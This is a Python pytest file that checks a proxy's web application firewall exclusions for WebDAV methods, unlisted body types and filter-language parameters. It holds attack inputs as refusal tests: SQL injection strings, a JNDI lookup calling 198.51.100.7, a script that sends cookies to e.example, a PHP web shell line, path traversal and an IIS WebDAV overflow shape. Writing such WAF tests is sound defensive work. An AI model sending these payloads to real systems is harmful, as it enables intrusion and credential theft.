"""The eleventh round's defaults (tests/waf/default-exclusions.md): D47
WebDAV methods, D48 unlisted body types read whole, D49 filter-language
parameters.  Each benign shape passes and its attack neighbours are still
refused (all refused or passed differently by the D1-D46 build)."""

import pytest

import ghutil
from test_waf import start, send

pytestmark = pytest.mark.skipif(ghutil.IMPL == "haproxy",
                                reason="waf sections are not translated to HAProxy")

XMLT = ("Content-Type", "application/xml; charset=utf-8")
PROPFIND = (b'<?xml version="1.0" encoding="utf-8"?>\n<d:propfind xmlns:d="DAV:"><d:prop>'
            b'<d:getetag/><d:resourcetype/></d:prop></d:propfind>')
LOCK = (b'<?xml version="1.0" encoding="utf-8"?><D:lockinfo xmlns:D="DAV:"><D:lockscope>'
        b'<D:exclusive/></D:lockscope><D:locktype><D:write/></D:locktype></D:lockinfo>')
TOKEN = "<urn:uuid:e71d4fae-5dec-22d6-fea5-00a0c91e6be4>"


def test_d47_webdav_methods_pass_and_their_neighbours_are_refused(gatehouse, origin, port):
    start(gatehouse, port, origin)
    ok = [("PROPFIND", "/dav/files/anja/", [XMLT, ("Depth", "1")], PROPFIND),
          ("PROPFIND", "/dav/files/anja/a.txt", [XMLT, ("Depth", "0")], PROPFIND),
          ("MKCOL", "/dav/files/anja/Porto%202026", [], b""),
          ("MOVE", "/dav/files/anja/a.txt",
           [("Destination", "https://shop.example.com/dav/files/anja/b.txt"), ("Overwrite", "F")], b""),
          ("COPY", "/dav/files/anja/a.txt",
           [("Destination", "https://shop.example.com/dav/files/anja/c.txt")], b""),
          ("LOCK", "/dav/shared/budget.xlsx", [XMLT, ("Timeout", "Second-3600")], LOCK),
          ("UNLOCK", "/dav/shared/budget.xlsx", [("Lock-Token", TOKEN)], b""),
          ("PUT", "/dav/shared/budget.xlsx", [("If", "(%s)" % TOKEN),
                                               ("Content-Type", "application/octet-stream")], b"PK"),
          ("REPORT", "/dav/calendars/anja/work/", [XMLT, ("Depth", "1")],
           b'<c:calendar-query xmlns:d="DAV:" xmlns:c="urn:ietf:params:xml:ns:caldav">'
           b'<d:prop><d:getetag/></d:prop></c:calendar-query>')]
    for m, path, hdrs, body in ok:
        assert send(port, m, path, hdrs, body).status == 200, (m, hdrs)
    hits = origin.stats.heads
    bad = [("PROPFIND", "/", [], b""),                                  # no Depth
           ("PROPFIND", "/dav/", [XMLT, ("Depth", "infinity")], PROPFIND),
           ("TRACE", "/", [], b""), ("TRACK", "/", [], b""),
           ("CHECKOUT", "/dav/a", [], b""),                             # not in D47
           ("GET", "/dav/a", [("Lock-Token", TOKEN)], b""),             # only on UNLOCK
           ("UNLOCK", "/dav/a", [("Lock-Token", "<../../etc/passwd> x")], b""),
           ("PUT", "/dav/a", [("If", "(<opaquelocktoken:e71d>) ' or 1=1--"),
                              ("Content-Type", "application/octet-stream")], b"PK"),
           # IIS 6's If overflow (CVE-2017-7269): UTF-8 in the URL
           ("PROPFIND", "/", [("Depth", "1"),
                              ("If", "<http://localhost/aaaaaaa%s> (Not <locktoken:write1>)"
                                     % "\u6f68\u7863".encode().decode("latin-1"))],
            b""),
           ("PROPPATCH", "/dav/a", [XMLT],
            b'<d:propertyupdate xmlns:d="DAV:"><d:set><d:prop><d:displayname>x\' UNION SELECT '
            b'password FROM users-- -</d:displayname></d:prop></d:set></d:propertyupdate>'),
           ("REPORT", "/dav/cal/", [XMLT, ("Depth", "1")],
            b'<c:calendar-query xmlns:c="urn:ietf:params:xml:ns:caldav"><c:filter>'
            b'<c:comp-filter name="${jndi:ldap://198.51.100.7:1389/a}"/></c:filter></c:calendar-query>')]
    for m, path, hdrs, body in bad:
        assert send(port, m, path, hdrs, body).status in (400, 403, 405), (m, hdrs)
    assert origin.stats.heads == hits


def test_d48_unlisted_types_are_read_whole(gatehouse, origin, port):
    start(gatehouse, port, origin)
    ok = [("application/sdp", b"v=0\r\no=- 46117 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\n"
           b"m=audio 9 UDP/TLS/RTP/SAVPF 111\r\na=rtpmap:111 opus/48000/2\r\n"),
          ("application/trickle-ice-sdpfrag", b"a=ice-ufrag:Jq8e\r\na=mid:0\r\n"),
          ("text/markdown", "# Reuni\u00e3o\n\n- or\u00e7amento aprovado\n".encode()),
          ("application/x-git-upload-pack-request",
           b"0032want 9fceb02d0ae598e95dc970b74767f19372d61af8\n00000009done\n"),
          ("application/x-protobuf", bytes(range(256)))]
    for t, body in ok:
        assert send(port, "POST", "/in", [("Content-Type", t)], body).status == 200, t
    hits = origin.stats.heads
    bad = [("application/sdp", b"v=0\r\ns=x' UNION SELECT password FROM users-- -\r\n"),
           ("text/markdown", b"# x\n<script>document.location='//e.example/?'+document.cookie</script>\n"),
           ("application/edifact", b"UNB+UNOC:3+${jndi:ldap://198.51.100.7/a}+ACME'"),
           ("application/x-httpd-php", b"<?php system($_GET['c']); ?>"),
           ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
           ("application/x-java-serialized-object", b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap"),
           ("application/x-foo", b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap"),
           ("text/x-report+json", b'{"q": "1\' UNION SELECT password FROM users-- -"}'),
           ("text/x-config+yaml", b"q: 1' UNION SELECT password FROM users-- -\n"),
           ("application/", b"a=1"),                                    # malformed: 920420
           ("application/sdp; x=\"<script>\"", b"v=0\r\n")]               # 920470
    for t, body in bad:
        assert send(port, "POST", "/in", [("Content-Type", t)], body).status in (400, 403), t
    assert origin.stats.heads == hits


def test_d48_remote_write_snappy(gatehouse, origin, port):
    start(gatehouse, port, origin)
    rw = [("Content-Type", "application/x-protobuf"), ("Content-Encoding", "snappy")]
    assert send(port, "POST", "/api/v1/write", rw, b"\xff\x06\x00\x00sNaPpY\x01\x1a").status == 200
    hits = origin.stats.heads
    assert send(port, "POST", "/api/v1/write", [("Content-Type", "application/json"),
                                                ("Content-Encoding", "snappy")], b"{}").status == 403
    assert send(port, "POST", "/api/v1/write", [rw[0], ("Content-Encoding", "gzip")],
                b"\x1f\x8b").status == 403
    assert origin.stats.heads == hits


def test_d49_filter_parameters(gatehouse, origin, port):
    start(gatehouse, port, origin)
    ok = ["/geoserver/wfs?service=WFS&request=GetFeature&typeNames=topp:states&CQL_FILTER="
          "PERSONS%20%3E%2015000000%20AND%20STATE_NAME%20LIKE%20%27N%25%27",
          "/arcgis/rest/services/Parcels/MapServer/0/query?where=ZONING+%3D+%27R-1%27+AND+ACRES"
          "+%3E%3D+0.5&outFields=*&f=geojson",
          "/odata/Products?$filter=Name%20eq%20%27O%27%27Brien%27%20and%20Price%20lt%2010"]
    for t in ok:
        assert send(port, "GET", t).status == 200, t
    hits = origin.stats.heads
    bad = ["/geoserver/wfs?CQL_FILTER=STATE_NAME%3D%27x%27%20UNION%20SELECT%20password%20FROM%20users--",
           "/arcgis/rest/services/P/MapServer/0/query?where=ZONING%3D%27R-1%27%3B%20DROP%20TABLE%20p--",
           "/arcgis/rest/services/P/MapServer/0/query?where=OWNER%3D%27%27%20OR%20%271%27%3D%271",
           "/odata/Products?$filter=Name%20eq%20%27x%27%20or%201%3D1%20--",
           # where off a /query path keeps 942100
           "/search?where=OWNER%3D%27%27%20OR%20%271%27%3D%271"]
    for t in bad:
        assert send(port, "GET", t).status == 403, t
    assert origin.stats.heads == hits


def test_plain_requests_skip_modsecurity_with_the_new_defaults(gatehouse, origin, port):
    # the pre-filter still clears ordinary requests alone (D48's body
    # processor rule once made it answer "cannot tell" for every request:
    # each went to ModSecurity, 75 times the instructions)
    from test_metrics import scrape
    admin = ghutil.free_port()
    start(gatehouse, port, origin, waf="prefilter on", global_extra="admin 127.0.0.1:%d" % admin)

    def inspections():
        return sum(v for (n, ls), v in scrape(admin)[1].items()
                   if n == "gatehouse_waf_inspections_total")
    for i in range(10):
        assert send(port, "GET", "/products/blue-kettle?page=%d" % i).status == 200
        assert send(port, "POST", "/api/cart", [("Content-Type", "application/json")],
                    b'{"sku": "BK-1", "qty": %d}' % i).status == 200
    assert inspections() == 0
    # a body D48 reads whole goes to ModSecurity
    assert send(port, "POST", "/whip/r", [("Content-Type", "application/sdp")],
                b"v=0\r\ns=-\r\n").status == 200
    ghutil.wait_for(lambda: inspections() >= 1, 5 * ghutil.SLACK, 0.05, "an inspection")
